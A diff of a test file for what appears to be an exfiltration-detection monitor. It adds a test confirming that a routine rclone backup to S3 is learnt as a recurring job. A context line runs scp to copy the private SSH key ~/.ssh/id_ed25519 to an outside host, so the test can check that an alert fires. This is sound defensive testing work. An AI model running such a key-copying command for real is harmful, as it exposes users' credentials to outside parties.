@@ -402,3 +402,21 @@ def test_scp_of_the_key_itself_alerts(monitor, home, storage, sshd, tmp_path):
     run(SCP + f"$HOME/.ssh/id_ed25519 root@github.com:{target}", home, storage, tmp_path)
     assert target.exists()
     assert_alert_here(monitor, home, "T1567.001")
+
+
+# --- recurring jobs are learnt live ------------------------------------------------------------
+
+def test_run_state_dir_learns_the_upload_job(home, storage, rules_file, tmp_path):
+    state = tmp_path / "state"
+    with Monitor(tmp_path / "monitor", extra_args=["--rules", str(rules_file), "--state-dir", str(state)]) as mon:
+        run(RCLONE + "sync $HOME/Documents own:own-backups/nightly --config $HOME/.config/rclone/rclone.conf",
+            home, storage, tmp_path)
+        uploaded(storage, "PUT", "nightly/q3-report.pdf")
+        wait_for_flow(mon, storage, "s3.amazonaws.com")
+        mon.stop()
+        assert_no_secrets(mon, home)
+    assert oct(state.stat().st_mode & 0o777) == "0o700"
+    lines = (state / "recurring-jobs.tsv").read_text().splitlines()
+    assert lines[0] == "exfilwatch-jobs v1"
+    jobs = [line.split("\t") for line in lines[1:]]
+    assert any(job[4] == "/usr/bin/rclone" and job[5].endswith("s3.amazonaws.com") for job in jobs), lines
